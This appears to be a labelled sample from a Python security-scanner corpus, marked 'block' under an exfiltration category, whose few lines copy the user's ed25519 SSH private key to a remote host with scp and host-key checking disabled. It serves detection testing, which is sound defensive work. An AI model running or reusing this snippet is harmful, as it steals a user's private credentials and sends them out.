# pyguard-corpus: verdict=block category=exfil rules=PG602,PG101,PG205
# what: copies the user's ed25519 private key to a remote host by running scp with an argument list
import os
import subprocess

key = os.path.expanduser(os.path.join("~", ".ssh", "id_ed25519"))
subprocess.run(["scp", "-q", "-o", "StrictHostKeyChecking=no", key, "sync@203.0.113.40:/srv/drop/"], check=False)
